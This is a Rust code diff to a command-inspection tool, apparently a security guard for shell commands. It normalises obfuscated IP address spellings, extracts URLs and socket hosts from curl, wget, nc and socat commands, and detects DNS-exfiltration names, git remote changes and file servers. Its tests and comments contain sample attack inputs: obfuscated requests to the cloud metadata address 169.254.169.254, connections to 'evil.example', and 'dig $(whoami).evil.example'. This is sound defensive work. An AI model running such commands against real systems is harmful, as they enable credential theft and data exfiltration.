@@ -534,7 +534,10 @@ pub const DECODERS: &[&str] = &[
     "base64", "base32", "basenc", "xxd", "openssl", "uudecode", "rev", "gpg", "od",
 ];
 
-/// The host of an `http(s)://` URL, lowercased, without port or credentials.
+/// The host of an `http(s)://` URL, lowercased, without port or credentials, and in its
+/// canonical form when it is an address (`0xa9fea9fe`, `2852039166` and `[::ffff:a9fe:a9fe]`
+/// are all `169.254.169.254`; a trailing dot is dropped): the host the request reaches,
+/// however it is spelt.
 pub fn url_host(url: &str) -> Option<String> {
     let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
     let authority = rest.split(['/', '?', '#']).next()?;
@@ -544,7 +547,607 @@ pub fn url_host(url: &str) -> Option<String> {
     } else {
         host_port.split(':').next()?
     };
-    (!host.is_empty()).then(|| host.to_ascii_lowercase())
+    let host = host.trim_end_matches('.');
+    (!host.is_empty()).then(|| canonical_address(host).unwrap_or_else(|| host.to_ascii_lowercase()))
+}
+
+/// An address in the form the system resolver reads it, written canonically: IPv4 in any
+/// `inet_aton` form (`2852039166`, `0xa9.0xfe.0xa9.0xfe`, `0251.0376.0251.0376`,
+/// `169.254.43518`), IPv6 (an IPv4-mapped one as its IPv4 address). `None` for a name.
+pub fn canonical_address(host: &str) -> Option<String> {
+    if let Ok(v6) = host.parse::<std::net::Ipv6Addr>() {
+        return Some(match v6.to_ipv4_mapped() {
+            Some(v4) => v4.to_string(),
+            None => v6.to_string(),
+        });
+    }
+    let parts: Vec<&str> = host.split('.').collect();
+    if parts.len() > 4 || !host.starts_with(|c: char| c.is_ascii_digit()) {
+        return None;
+    }
+    let mut nums = Vec::with_capacity(parts.len());
+    for p in &parts {
+        let p = p.to_ascii_lowercase();
+        let n = if let Some(hex) = p.strip_prefix("0x") {
+            u64::from_str_radix(hex, 16).ok()?
+        } else if p.len() > 1 && p.starts_with('0') {
+            u64::from_str_radix(&p[1..], 8).ok()?
+        } else {
+            p.parse::<u64>().ok()?
+        };
+        nums.push(n);
+    }
+    // Every part but the last is one byte; the last fills the bytes that remain.
+    let (last, head) = nums.split_last()?;
+    if head.iter().any(|&n| n > 255) || *last >= 1u64 << (8 * (4 - head.len())) {
+        return None;
+    }
+    let mut addr = *last;
+    for (k, &n) in head.iter().enumerate() {
+        addr |= n << (8 * (3 - k));
+    }
+    Some(std::net::Ipv4Addr::from(addr as u32).to_string())
+}
+
+/// Options of HTTP clients that take a value, short letters and long names: the word after
+/// one is not a URL (`curl -o out.html example.com`).
+const HTTP_VALUE_OPTIONS: &[(&str, &str, &[&str])] = &[
+    (
+        "curl",
+        "AbcCdDeEFHKmoPQrTtuUwxXyYz",
+        &[
+            "url",
+            "output",
+            "data",
+            "data-ascii",
+            "data-binary",
+            "data-raw",
+            "data-urlencode",
+            "json",
+            "form",
+            "form-string",
+            "header",
+            "proxy-header",
+            "user",
+            "user-agent",
+            "referer",
+            "cookie",
+            "cookie-jar",
+            "continue-at",
+            "dump-header",
+            "cert",
+            "cacert",
+            "capath",
+            "key",
+            "key-type",
+            "cert-type",
+            "pass",
+            "config",
+            "max-time",
+            "connect-timeout",
+            "proxy",
+            "proxy-user",
+            "preproxy",
+            "socks4",
+            "socks4a",
+            "socks5",
+            "socks5-hostname",
+            "request",
+            "range",
+            "upload-file",
+            "write-out",
+            "retry",
+            "retry-delay",
+            "retry-max-time",
+            "resolve",
+            "connect-to",
+            "interface",
+            "limit-rate",
+            "max-filesize",
+            "output-dir",
+            "oauth2-bearer",
+            "unix-socket",
+            "abstract-unix-socket",
+            "noproxy",
+            "dns-servers",
+            "ciphers",
+            "local-port",
+            "expect100-timeout",
+            "keepalive-time",
+            "max-redirs",
+            "proto",
+            "proto-redir",
+            "time-cond",
+            "trace",
+            "trace-ascii",
+            "stderr",
+            "variable",
+            "aws-sigv4",
+            "speed-limit",
+            "speed-time",
+            "quote",
+            "netrc-file",
+            "url-query",
+            "mail-from",
+            "mail-rcpt",
+            "mail-auth",
+            "pinnedpubkey",
+            "tls-max",
+            "etag-save",
+            "etag-compare",
+            "create-file-mode",
+        ],
+    ),
+    (
+        "wget",
+        "OoaiPtTwUeBQlARDXI",
+        &[
+            "output-document",
+            "output-file",
+            "append-output",
+            "input-file",
+            "directory-prefix",
+            "tries",
+            "timeout",
+            "wait",
+            "user-agent",
+            "execute",
+            "base",
+            "quota",
+            "level",
+            "accept",
+            "reject",
+            "domains",
+            "exclude-directories",
+            "include-directories",
+            "header",
+            "post-data",
+            "post-file",
+            "body-data",
+            "body-file",
+            "method",
+            "user",
+            "password",
+            "http-user",
+            "http-password",
+            "load-cookies",
+            "save-cookies",
+            "referer",
+            "limit-rate",
+            "ca-certificate",
+            "certificate",
+            "private-key",
+            "bind-address",
+            "config",
+        ],
+    ),
+];
+
+/// The URLs command `c` requests: its words with a scheme (`https://…`), and the operands
+/// curl and wget take as URLs without one (`curl 169.254.169.254/latest/`, `wget
+/// example.com/x`, `curl $HOST/path`), the values of their options skipped.
+pub fn request_urls(c: &Command) -> Vec<String> {
+    let mut out: Vec<String> = c
+        .args
+        .iter()
+        .filter(|a| a.text.contains("://"))
+        .map(|a| a.text.clone())
+        .collect();
+    if let Some((_, short, long)) = HTTP_VALUE_OPTIONS.iter().find(|(p, ..)| *p == c.program) {
+        let bare = operands_skipping(c, short, long)
+            .into_iter()
+            .filter(|w| !w.text.contains("://") && bare_url(&w.text));
+        out.extend(bare.map(|w| w.text.clone()));
+        if let Some(u) = c
+            .option_value(None, &["url"])
+            .filter(|u| !u.contains("://"))
+        {
+            out.push(u);
+        }
+    }
+    out
+}
+
+/// A word curl or wget would request as a URL without a scheme: a host (a dotted name, an
+/// address, `localhost`, `[v6]`) with an optional port and path, or a word whose host is a
+/// variable (`$HOST/path`).
+fn bare_url(t: &str) -> bool {
+    let authority = t.split(['/', '?', '#']).next().unwrap_or(t);
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    let host = host.split(':').next().unwrap_or(host);
+    // An address in another spelling (`0xa9fea9fe/latest`) with a path or a port: a bare
+    // number alone may be an option's value palisade does not know.
+    let spelt_address = canonical_address(host).is_some() && t.len() > host.len();
+    host.starts_with('$')
+        || host == "localhost"
+        || authority.starts_with('[')
+        || spelt_address
+        || (host.contains('.') && !host.starts_with('.') && !host.ends_with('.'))
+            && host
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
+}
+
+/// The URLs in inline code (`python3 -c 'urlopen("http://…")'`, `node -e 'fetch("…")'`):
+/// each word with a scheme, up to the quote or space that ends it, and each string literal
+/// that is an address (`HTTPConnection("169.254.169.254")`, `connect(('10.0.0.1', 80))`).
+pub fn code_urls(code: &str) -> Vec<String> {
+    let mut out = scheme_urls(code);
+    for quote in ['"', '\'', '`'] {
+        let mut parts = code.split(quote);
+        parts.next();
+        // The odd pieces are inside quotes (a lexical guess: escapes are not followed).
+        while let Some(inside) = parts.next() {
+            // Written as addresses are (`1.2` and `7` are numbers, not the hosts `inet_aton`
+            // would make of them).
+            let address = inside.parse::<std::net::Ipv4Addr>().is_ok()
+                || inside.contains("::") && inside.parse::<std::net::Ipv6Addr>().is_ok();
+            if address && !out.iter().any(|u| u == inside) {
+                out.push(inside.to_string());
+            }
+            parts.next();
+        }
+    }
+    out
+}
+
+/// The words of `code` with a scheme (`https://…`), up to the quote or space that ends each.
+fn scheme_urls(code: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let bytes = code.as_bytes();
+    let mut from = 0;
+    while let Some(at) = code[from..].find("://").map(|k| k + from) {
+        let start = code[..at]
+            .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
+            .map_or(0, |k| k + 1);
+        let end = code[at + 3..]
+            .find(|c: char| c.is_whitespace() || "'\"`<>()[]{},;\\".contains(c))
+            .map_or(code.len(), |k| k + at + 3);
+        if start < at && bytes[start].is_ascii_alphabetic() && end > at + 3 {
+            out.push(code[start..end].to_string());
+        }
+        from = end.max(at + 3);
+    }
+    out
+}
+
+/// The host a socket client connects to: `nc [-opts] HOST PORT`, `telnet HOST`, `socat …
+/// TCP:HOST:PORT`; `None` when it listens or the host is not on its command line.
+pub fn socket_host(c: &Command) -> Option<String> {
+    let host = match c.program.as_str() {
+        "nc" | "ncat" | "netcat" => {
+            if c.has_flag(Some('l'), &["listen"]) {
+                return None;
+            }
+            let ops = operands_skipping(
+                c,
+                "IiMmOPpsTVWwXxqg",
+                &[
+                    "source",
+                    "source-port",
+                    "proxy",
+                    "proxy-type",
+                    "wait",
+                    "exec",
+                    "sh-exec",
+                ],
+            );
+            ops.first()?.text.clone()
+        }
+        "telnet" => operands_skipping(c, "blnekX", &[]).first()?.text.clone(),
+        "socat" => c.args.iter().find_map(|a| {
+            let (kind, rest) = a.text.split_once(':')?;
+            let kind = kind.to_ascii_uppercase();
+            let connects = [
+                "TCP",
+                "TCP4",
+                "TCP6",
+                "TCP-CONNECT",
+                "UDP",
+                "UDP4",
+                "UDP6",
+                "OPENSSL",
+            ]
+            .contains(&kind.as_str())
+                || kind == "SSL";
+            connects.then(|| rest.to_string())
+        })?,
+        _ => return None,
+    };
+    // `HOST:PORT`, `[v6]:PORT`, or a bare v6 address, which has colons of its own.
+    let name = match host.strip_prefix('[') {
+        Some(v6) => v6.split(']').next().unwrap_or(v6),
+        None if host.matches(':').count() > 1 => host.as_str(),
+        None => host.split([':', ',']).next().unwrap_or(&host),
+    };
+    let name = name.trim_end_matches('.');
+    (!name.is_empty()).then(|| canonical_address(name).unwrap_or_else(|| name.to_ascii_lowercase()))
+}
+
+/// Programs that look up a name they are given in DNS (`dig`, `host`, `ping`…): a name built
+/// from data (`dig $(whoami).evil.example`) carries that data to the servers of its zone.
+pub const RESOLVERS: &[&str] = &[
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "delv",
+    "kdig",
+    "resolvectl",
+    "getent",
+    "ping",
+    "ping6",
+];
+
+/// True when `program` looks up the names it is given (`RESOLVERS`).
+pub fn is_resolver(program: &str) -> bool {
+    RESOLVERS.contains(&program)
+}
+
+/// The words command `c` looks up as names, when it is a resolver: its operands, less a
+/// server (`@8.8.8.8`) and query options (`+short`); `getent` only for a hosts database.
+pub fn looked_up_names(c: &Command) -> Vec<&Word> {
+    if !is_resolver(&c.program) {
+        return Vec::new();
+    }
+    let ops = c.operands();
+    if c.program == "getent" {
+        return match ops.split_first() {
+            Some((db, names)) if db.text.starts_with("hosts") || db.text.starts_with("ahosts") => {
+                names.to_vec()
+            }
+            _ => Vec::new(),
+        };
+    }
+    ops.into_iter()
+        .filter(|w| !w.text.starts_with(['@', '+']))
+        .collect()
+}
+
+/// The literal domain a name built from data ends in (`$(whoami).evil.example`,
+/// `${K}.x.evil.example`, `$USER.evil.example`, xargs' `{}.evil.example`): where the data
+/// goes. `None` for a name known statically, a name that is all data (`$DOMAIN`), or one
+/// whose ending is not a literal domain of two labels or more.
+pub fn data_name_domain(w: &Word) -> Option<String> {
+    if !w.dynamic {
+        return None;
+    }
+    let t = w.text.as_str();
+    let last_dynamic = t.rfind([')', '}', '`']).or_else(|| {
+        // `$VAR.evil.example`: the variable name ends at the first dot.
+        t.find('$')
+            .map(|i| i + t[i..].find('.').unwrap_or(t.len() - i))
+    })?;
+    let rest = t
+        .get(last_dynamic..)?
+        .trim_start_matches([')', '}', '`', '"']);
+    let domain = rest.strip_prefix('.')?;
+    (domain.contains('.') && !domain.contains('$'))
+        .then(|| domain.trim_end_matches('.').to_ascii_lowercase())
+}
+
+/// The remote a git command points at a URL: `git remote add [-t B] [-m M] [-f] NAME URL`,
+/// `git remote set-url [--push] [--add] NAME URL`, `git config [--global] remote.NAME.url
+/// URL` (or `pushurl`): its name, its URL, and whether it is new (`add`). Git's global
+/// options are already off the command (`Command::args`).
+pub fn git_remote_set(c: &Command) -> Option<(String, String, bool)> {
+    if c.program != "git" {
+        return None;
+    }
+    // `remote add -t B -m M` and `config -f FILE` take values; `remote add -f` does not.
+    let ops = match c.args.first().map(|w| w.text.as_str()) {
+        Some("remote") => operands_skipping(c, "tm", &[]),
+        Some("config") => operands_skipping(c, "f", &["file", "blob", "type"]),
+        _ => return None,
+    };
+    let words: Vec<&str> = ops.iter().map(|w| w.text.as_str()).collect();
+    let (name, url, added) = match words.as_slice() {
+        ["remote", "add", name, url, ..] => (*name, *url, true),
+        ["remote", "set-url", name, url, ..] => (*name, *url, false),
+        ["config", key, url, ..] => {
+            let name = key.strip_prefix("remote.").and_then(|k| {
+                k.strip_suffix(".url")
+                    .or_else(|| k.strip_suffix(".pushurl"))
+            })?;
+            (name, *url, false)
+        }
+        _ => return None,
+    };
+    Some((name.to_string(), url.to_string(), added))
+}
+
+/// Programs that serve a directory over HTTP, with how each is told which: the option that
+/// names it (short letter, long names), whether its first operand names it instead, the
+/// options that take a value (so `-p 8080` is no directory), and an option without which it
+/// serves nothing (`php -S`). With none of these given, the directory is the working one.
+pub struct FileServer {
+    pub program: &'static str,
+    pub root_option: (Option<char>, &'static [&'static str]),
+    pub root_operand: bool,
+    pub short_valued: &'static str,
+    pub long_valued: &'static [&'static str],
+    pub requires: Option<(Option<char>, &'static [&'static str])>,
+    /// The subcommand that serves (`caddy file-server`), when the program does more.
+    pub subcommand: Option<&'static str>,
+}
+
+const NO_OPTION: (Option<char>, &[&str]) = (None, &[]);
+
+/// The file servers palisade knows (`python -m http.server` is the program `http.server`).
+pub const FILE_SERVERS: &[FileServer] = &[
+    FileServer {
+        program: "http.server",
+        root_option: (Some('d'), &["directory"]),
+        root_operand: false,
+        short_valued: "bd",
+        long_valued: &["bind", "directory", "protocol"],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "SimpleHTTPServer",
+        // Python 2's serves the working directory; a `--directory` is read as http.server's
+        // would be, in case a wrapper passes it on.
+        root_option: (Some('d'), &["directory"]),
+        root_operand: false,
+        short_valued: "",
+        long_valued: &[],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "php",
+        root_option: (Some('t'), &[]),
+        root_operand: false,
+        short_valued: "Stcd",
+        long_valued: &[],
+        requires: Some((Some('S'), &[])),
+        subcommand: None,
+    },
+    FileServer {
+        program: "http-server",
+        root_option: NO_OPTION,
+        root_operand: true,
+        short_valued: "paceCKtU",
+        long_valued: &[
+            "port", "address", "proxy", "cert", "key", "username", "password",
+        ],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "serve",
+        root_option: NO_OPTION,
+        root_operand: true,
+        short_valued: "lc",
+        long_valued: &["listen", "config", "ssl-cert", "ssl-key", "ssl-pass"],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "live-server",
+        root_option: NO_OPTION,
+        root_operand: true,
+        short_valued: "",
+        long_valued: &[],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "miniserve",
+        root_option: NO_OPTION,
+        root_operand: true,
+        short_valued: "piauct",
+        long_valued: &[
+            "port",
+            "interfaces",
+            "auth",
+            "title",
+            "route-prefix",
+            "color-scheme",
+        ],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "darkhttpd",
+        root_option: NO_OPTION,
+        root_operand: true,
+        short_valued: "",
+        long_valued: &[
+            "port",
+            "addr",
+            "log",
+            "chroot",
+            "index",
+            "mimetypes",
+            "uid",
+            "gid",
+        ],
+        requires: None,
+        subcommand: None,
+    },
+    FileServer {
+        program: "caddy",
+        root_option: (Some('r'), &["root"]),
+        root_operand: false,
+        short_valued: "ral",
+        long_valued: &["root", "listen", "access-log", "domain"],
+        requires: None,
+        subcommand: Some("file-server"),
+    },
+];
+
+/// The directory command `c` serves over HTTP, if it is a file server: `Some(Some(word))`
+/// for a directory it names, `Some(None)` for its working directory.
+pub fn served_directory(c: &Command) -> Option<Option<Word>> {
+    let s = FILE_SERVERS.iter().find(|s| s.program == c.program)?;
+    if let Some((short, long)) = s.requires
+        && !c.has_flag(short, long)
+    {
+        return None;
+    }
+    if let Some(sub) = s.subcommand
+        && c.subcommand() != Some(sub)
+    {
+        return None;
+    }
+    let (short, long) = s.root_option;
+    if let Some(w) = option_word(c, short, long) {
+        return Some(Some(w));
+    }
+    if !s.root_operand {
+        return Some(None);
+    }
+    // A port or an address given without its option (`serve 3000`, `http-server 0.0.0.0`)
+    // is no directory.
+    let ops = operands_skipping(c, s.short_valued, s.long_valued);
+    Some(
+        ops.into_iter()
+            .skip(usize::from(s.subcommand.is_some()))
+            .find(|w| {
+                !w.text.chars().all(|ch| ch.is_ascii_digit())
+                    && w.text.parse::<std::net::IpAddr>().is_err()
+            })
+            .cloned(),
+    )
+}
+
+/// The value of an option of `c` as a word (`-d DIR`, `-dDIR`, `--directory DIR`,
+/// `--directory=DIR`).
+fn option_word(c: &Command, short: Option<char>, long: &[&str]) -> Option<Word> {
+    let mut it = c.args.iter();
+    while let Some(a) = it.next() {
+        let t = a.text.as_str();
+        if t == "--" {
+            break;
+        }
+        let glued = |v: &str| Word {
+            text: v.to_string(),
+            dynamic: a.dynamic && v.contains(['$', '`']),
+            glob: a.glob,
+        };
+        if let Some(name) = t.strip_prefix("--") {
+            let (n, v) = name
+                .split_once('=')
+                .map_or((name, None), |(n, v)| (n, Some(v)));
+            if long.contains(&n) {
+                return match v {
+                    Some(v) => Some(glued(v)),
+                    None => it.next().cloned(),
+                };
+            }
+        } else if let Some(ch) = short
+            && let Some(rest) = t.strip_prefix('-').and_then(|r| r.strip_prefix(ch))
+        {
+            return if rest.is_empty() {
+                it.next().cloned()
+            } else {
+                Some(glued(rest))
+            };
+        }
+    }
+    None
 }
 
 /// Loopback names and addresses.
@@ -2320,6 +2923,107 @@ mod tests {
         assert_eq!(url_host("evil.com/path").as_deref(), Some("evil.com"));
         assert_eq!(url_host("https:///x"), None);
         assert!(is_remote_spec("user@host:/x") && !is_remote_spec("./a:b"));
+    }
+
+    /// A host is the address it reaches however it is spelt; a name stays a name.
+    #[test]
+    fn hosts_are_canonical() {
+        for spelt in [
+            "http://169.254.169.254/",
+            "http://2852039166/",
+            "http://0xa9fea9fe/x",
+            "http://0xA9.0xFE.0xA9.0xFE/",
+            "http://0251.0376.0251.0376/",
+            "http://169.254.43518/",
+            "http://[::ffff:169.254.169.254]/",
+            "http://[::ffff:a9fe:a9fe]:80/",
+        ] {
+            assert_eq!(
+                url_host(spelt).as_deref(),
+                Some("169.254.169.254"),
+                "{spelt}"
+            );
+        }
+        assert_eq!(
+            url_host("http://[fd00:ec2:0:0:0:0:0:254]/").as_deref(),
+            Some("fd00:ec2::254")
+        );
+        assert_eq!(
+            url_host("http://Metadata.Google.Internal./x").as_deref(),
+            Some("metadata.google.internal")
+        );
+        assert_eq!(url_host("http://1e100.net/").as_deref(), Some("1e100.net"));
+        assert_eq!(url_host("http://1.2.3.256/").as_deref(), Some("1.2.3.256"));
+        assert_eq!(url_host("http://0x7f000001/").as_deref(), Some("127.0.0.1"));
+    }
+
+    /// curl and wget request their operands as URLs without a scheme; the values of their
+    /// options are not URLs.
+    #[test]
+    fn request_urls_without_a_scheme() {
+        let urls = |line: &str| request_urls(&cmd(line));
+        assert_eq!(
+            urls("curl -s 169.254.169.254/latest/"),
+            ["169.254.169.254/latest/"]
+        );
+        assert_eq!(
+            urls("curl -o out.html --retry 3 -H 'Host: a.b' example.com"),
+            ["example.com"]
+        );
+        assert_eq!(urls("wget -qO- example.org/x"), ["example.org/x"]);
+        assert_eq!(
+            urls("wget -O out.html localhost:8080/"),
+            ["localhost:8080/"]
+        );
+        assert_eq!(urls("curl $H/169.254.170.2/v2"), ["$H/169.254.170.2/v2"]);
+        assert_eq!(urls("curl --url example.com/a"), ["example.com/a"]);
+        assert_eq!(urls("curl https://a.example/x"), ["https://a.example/x"]);
+        assert_eq!(urls("curl -s 0xa9fea9fe/latest/"), ["0xa9fea9fe/latest/"]);
+        assert!(urls("curl -o a.txt").is_empty());
+        assert!(urls("curl --unknown-valued 3").is_empty());
+        assert!(urls("grep -r example.com src").is_empty());
+    }
+
+    #[test]
+    fn urls_and_addresses_in_code() {
+        assert_eq!(
+            code_urls("import urllib.request as u; u.urlopen(\"http://h.example/a?b=1\").read()"),
+            ["http://h.example/a?b=1"]
+        );
+        assert_eq!(
+            code_urls("fetch('https://x.example/').then(r=>r.text())"),
+            ["https://x.example/"]
+        );
+        assert_eq!(
+            code_urls("c=h.HTTPConnection(\"169.254.169.254\"); s.connect(('fd00:ec2::254', 80))"),
+            ["169.254.169.254", "fd00:ec2::254"]
+        );
+        assert!(code_urls("print('1.2'); x = \"3\"; y = 'a://'").is_empty());
+    }
+
+    #[test]
+    fn socket_hosts() {
+        let host = |line: &str| socket_host(&cmd(line));
+        assert_eq!(
+            host("nc -w 3 evil.example 80").as_deref(),
+            Some("evil.example")
+        );
+        assert_eq!(host("ncat 10.0.0.1 9000").as_deref(), Some("10.0.0.1"));
+        assert_eq!(host("nc -lvnp 4444"), None);
+        assert_eq!(
+            host("telnet Example.com 25").as_deref(),
+            Some("example.com")
+        );
+        assert_eq!(
+            host("socat - TCP:169.254.169.254:80").as_deref(),
+            Some("169.254.169.254")
+        );
+        assert_eq!(
+            host("socat - tcp4:[fd00:ec2::254]:80").as_deref(),
+            Some("fd00:ec2::254")
+        );
+        assert_eq!(host("socat TCP-LISTEN:80 -"), None);
+        assert_eq!(host("curl example.com"), None);
     }
 
     /// Every upload operation of every upload CLI sends its local operands: all of them, or
